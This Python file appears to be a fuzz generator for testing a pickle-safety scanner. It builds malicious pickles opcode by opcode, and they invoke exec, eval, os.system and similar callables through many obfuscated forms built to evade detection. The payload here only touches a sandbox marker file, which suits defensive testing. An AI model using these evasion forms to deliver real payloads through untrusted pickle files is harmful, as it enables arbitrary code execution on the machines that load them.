"""Pickles put together opcode by opcode: every way to open a global, among everything that an unpickler takes in between."""

import pickle
import struct

# The payload writes an empty file where the sandbox says, and nothing else.
CODE = "open(__import__('os').environ['TSMA_MARKER'],'w').close()"
# Codes of the extension registry that the loading process registers.
EXTENSIONS = {7: ("builtins", "exec"), 300: ("builtins", "eval"), 70_000: ("cProfile", "run")}


def text4(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def text_forms(rng, value):
    data = value.encode()
    return rng.choice(
        [
            lambda: text4(value),
            lambda: b"\x8c" + bytes([len(data)]) + data,
            lambda: b"\x8d" + struct.pack("<Q", len(data)) + data,
            lambda: b"V" + data + b"\n",
            lambda: b"V" + "".join(f"\\u{ord(c):04x}" for c in value).encode() + b"\n",
            lambda: b"V" + "".join(f"\\U{ord(c):08x}" for c in value).encode() + b"\n",
            lambda: b"S'" + data.replace(b"'", b"\\'") + b"'\n",
            lambda: b'S"' + "".join(f"\\x{ord(c):02x}" for c in value).encode() + b'"\n',
            lambda: b"S'" + "".join(f"\\{ord(c):03o}" for c in value).encode() + b"'\n",
            lambda: b"U" + bytes([len(data)]) + data,
            lambda: b"T" + struct.pack("<i", len(data)) + data,
        ]
    )()


def memoised(rng, value_ops, state):
    """The value by way of the memo, in one of the forms that put and get."""
    index = rng.choice([0, 1, 5, 77, 255, 300, 1000])
    put = rng.choice(
        [
            b"p%d\n" % index,
            b"p+%d\n" % index,
            b"p %d \n" % index,
            b"p%d\0junk\n" % index,
            b"p0_%d\n" % index,
            b"r" + struct.pack("<I", index),
        ]
        + ([b"q" + bytes([index])] if index < 256 else [])
    )
    get = rng.choice(
        [b"g%d\n" % index, b"g %d\n" % index, b"j" + struct.pack("<I", index)]
        + ([b"h" + bytes([index])] if index < 256 else [])
    )
    if rng.random() < 0.3 and state["memo"] == 0:
        # MEMOIZE takes the size of the memo for the place.
        state["memo"] = 1
        return value_ops + b"\x94" + b"0" + rng.choice([b"h\x00", b"g0\n", b"j\0\0\0\0"])
    state["memo"] = 99
    decoy = text4("collections") + put + b"0" if rng.random() < 0.5 else b""
    return decoy + value_ops + put + b"0" + get


def filler(rng):
    """Operations that leave the stack as it was."""
    pushes = [
        b"I5\n", b"I0x10\n", b"I0o17\n", b"I0b11\n", b"I010\n", b"I 5\n", b"I5\0junk\n", b"I-0x1f\n", b"I+3\n", b"I1_000\n",
        b"I00\n", b"I01\n", b"I000\n", b"I12345678901234567890\n", b"I0X1F\n", b"I\t7\n", b"I0_7\n", b"I-0\n",
        b"L5L\n", b"L5\n", b"L0x10L\n", b"L-7L\n", b"L 8L\n", b"L0o7\n", b"L1_0L\n", b"L9\0zL\n", b"L" + b"9" * 400 + b"L\n",
        b"F1\n", b"F1.5\n", b"F.5\n", b"F5.\n", b"Finf\n", b"F-inf\n", b"Fnan\n", b"F1e300\n", b"FInfinity\n", b"F1E5\n", b"F+1\n", b"F-nan\n", b"F1.5\0x\n",
        b"J\x01\0\0\0", b"J\xff\xff\xff\xff", b"K\x05", b"M\x05\x01", b"G?\xf0\0\0\0\0\0\0",
        b"\x8a\x00", b"\x8a\x01\x05", b"\x8a\x08\xff\xff\xff\xff\xff\xff\xff\x7f", b"\x8b\x02\0\0\0\x01\x02", b"\x8b\0\0\0\0",
        b"N", b"\x88", b"\x89", b"]", b"}", b")", b"\x8f", b"(t", b"(l", b"(d", b"(\x91", b"((t(lt",
        b"S'a'\n", b'S"b"\n', b"S'\\n\\x41\\101\\q'\n", b"S''\n", b"S'a\\'b'\n", b"U\x01a", b"T\x01\0\0\0a",
        b"Va\n", b"V\\u0041\n", b"V\\\\u0041\n", b"V\xe9\n", b"V\\ud800\n", b"V\n",
        b"X\x01\0\0\0a", b"\x8c\x01a", b"\x8d\x01\0\0\0\0\0\0\0a", b"X\x03\0\0\0\xed\xa0\x80",
        b"B\x02\0\0\0\x80\x02", b"C\x02\x80\x02", b"\x8e\x01\0\0\0\0\0\0\0x", b"\x96\x01\0\0\0\0\0\0\0x",
        b"\x96\x01\0\0\0\0\0\0\0x\x98", b"C\x01x\x98",
        b"(K\x01K\x02t", b"K\x01K\x02\x86", b"K\x01\x85", b"K\x01K\x02K\x03\x87", b"](K\x01K\x02e", b"]K\x01a", b"}K\x01K\x02s",
        b"}(K\x01K\x02K\x03K\x04u", b"\x8f(K\x01\x90", b"(K\x01K\x02l", b"(K\x01K\x02d",
        b"(K\x01K\x022t", b"ccollections\nOrderedDict\n)R", b"\x8c\x0bcollections\x8c\x0bOrderedDict\x93)\x81", b"(icollections\nOrderedDict\n",
        b"(ccollections\nOrderedDict\no", b"ccollections\nOrderedDict\n)}\x92", b"c__builtin__\nset\n]\x85R",
        b"C" + bytes([200]) + bytes(200),
    ]
    closed = [b"\x80\x00", b"\x80\x02", b"\x80\x03", b"\x80\x04", b"\x80\x05", b"(1", b"(K\x01K\x021", b"(0", b"\x95\0\0\0\0\0\0\0\0"]
    count = rng.choice([0, 0, 0, 1, 1, 2, 3, 6])
    return b"".join(
        rng.choice(closed) if rng.random() < 0.15 else rng.choice(pushes) + rng.choice([b"0", b"20" + b"0"])
        for _ in range(count)
    )


def open_global(rng, module, name, state):
    kind = rng.choice(["GLOBAL", "STACK_GLOBAL", "STACK_GLOBAL", "memo"])
    if "." in name:
        kind = "STACK_GLOBAL"
    if kind == "GLOBAL":
        return f"c{module}\n{name}\n".encode()
    module_ops, name_ops = text_forms(rng, module), text_forms(rng, name)
    if kind == "memo":
        module_ops = memoised(rng, module_ops, state)
        name_ops = rng.choice([name_ops, name_ops + b"2" + b"0"])
    return module_ops + filler(rng) + name_ops + b"\x93"


CALLEES = [("builtins", "exec"), ("builtins", "eval"), ("__builtin__", "eval"), ("builtins", "exec.__call__")]
OTHERS = [("cProfile", "run"), ("profile", "run"), ("timeit", "timeit")]


def call(rng):
    """Opcodes that run the payload and leave one value."""
    state = {"memo": 0}
    module, name = rng.choice(CALLEES) if rng.random() < 0.9 else rng.choice(OTHERS)
    shell = rng.random() < 0.04
    if shell:
        module, name = rng.choice([("os", "system"), ("posix", "system")])
    code = ': > "$TSMA_MARKER"' if shell else CODE
    argument = text_forms(rng, code)
    if len(code) > 255:
        argument = text4(code)
    form = rng.choice(
        ["REDUCE", "REDUCE", "REDUCE", "INST", "OBJ", "BUILD", "EXT", "APPEND", "APPENDS", "SETITEM", "ADDITEMS", "partial", "map", "default", "type"]
    )
    plain = "." not in name
    callee = open_global(rng, module, name, state)
    if form == "INST" and plain:
        return filler(rng) + b"(" + argument + f"i{module}\n{name}\n".encode()
    if form == "OBJ":
        return b"(" + filler(rng) + callee + filler(rng) + argument + b"o"
    if form == "EXT":
        code_number = rng.choice(list(EXTENSIONS))
        forms = [b"\x84" + struct.pack("<i", code_number)]
        if code_number < 65536:
            forms.append(b"\x83" + struct.pack("<H", code_number))
        if code_number < 256:
            forms.append(b"\x82" + bytes([code_number]))
        return rng.choice(forms) + text4(CODE) + b"\x85R"
    namespace = open_global(rng, "types", "SimpleNamespace", {"memo": 99}) + b")" + rng.choice([b"R", b"\x81", b"}\x92"])
    if form == "BUILD":
        # An attribute of the object takes the part of its method.
        return namespace + b"}" + text4("__setstate__") + callee + b"sb" + argument + b"b"
    if form == "APPEND":
        return namespace + b"}" + text4("append") + callee + b"sb" + argument + b"a"
    if form == "APPENDS":
        return namespace + b"}(" + text4("extend") + callee + text4("append") + callee + b"ub(" + argument + b"e"
    if form == "ADDITEMS":
        return namespace + b"}" + text4("add") + callee + b"sb(" + argument + b"\x90"
    if form == "type" and plain:
        # A class with a __setitem__ of the payload's choice.
        made = b"cbuiltins\ntype\n" + text4("T") + b")}" + text4("__setitem__") + callee + b"s\x87R)R"
        return made + argument + b"N" + b"s"
    if form == "partial":
        return b"cfunctools\npartial\n" + callee + argument + b"\x86R)R"
    if form == "map":
        return b"cbuiltins\nlist\n" + b"cbuiltins\nmap\n" + callee + b"(" + argument + b"l\x86R\x85R"
    if form == "default":
        return b"cbuiltins\nany\n" + b"cbuiltins\nmap\n" + callee + b"(" + argument + b"t\x86R\x85R"
    arguments = rng.choice([argument + b"\x85", b"(" + argument + b"t", argument + filler(rng) + b"\x85"])
    return callee + filler(rng) + arguments + b"R"


def framed(rng, body):
    """Frames as a writer makes them, and as none does."""
    kind = rng.choice(["none", "none", "whole", "short", "split", "empty", "long"])
    frame = lambda size: b"\x95" + struct.pack("<Q", size)
    if kind == "whole":
        return frame(len(body)) + body
    if kind == "empty":
        return frame(0) + body
    if kind == "long":
        return frame(len(body) + rng.choice([1, 7, 2**20])) + body
    return body


BENIGN = [
    b"N.", b"K\x01.", b"].", b"}.", b"\x80\x02}q\x00.", b"\x80\x04\x95\x01\0\0\0\0\0\0\0N.", b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01.",
    b"(dp0\nS'a'\np1\nI1\ns.", b"I5\n.", b"Va\n.",
]


def evil(rng):
    """One pickle that runs the payload."""
    proto = rng.choice([b"", b"", b"\x80\x00", b"\x80\x01", b"\x80\x02", b"\x80\x03", b"\x80\x04", b"\x80\x05"])
    body = filler(rng) + call(rng) + rng.choice([b"", filler(rng), b"0N", b"0(dS'a'\nI1\ns", b"\x94"])
    end = rng.choice([b"."] * 6 + [b"", b"\xff", b"0000.", b"c", b"X\xff\xff\xff\x7f", b"(t.", b"h\xfe.", b"\x80\xff"])
    return proto + framed(rng, body + end)


def chain(rng):
    """Several pickles, one behind the other, of which one runs the payload."""
    before = [rng.choice(BENIGN) for _ in range(rng.choice([0, 0, 0, 1, 2, 5]))]
    if rng.random() < 0.01:
        before = [b"N."] * 10_001
    after = [rng.choice(BENIGN) for _ in range(rng.choice([0, 0, 0, 1, 3]))]
    junk = rng.choice([b""] * 6 + [bytes(16), b"trailing text\n", rng.randbytes(40)])
    return b"".join(before) + evil(rng) + b"".join(after) + junk


def benign(rng):
    return pickle.dumps(rng.choice([{"a": [1, 2.5, None]}, [1, "x", b"y"], ("a", 1), {"layers": {str(i): i for i in range(50)}}]), rng.randrange(6))
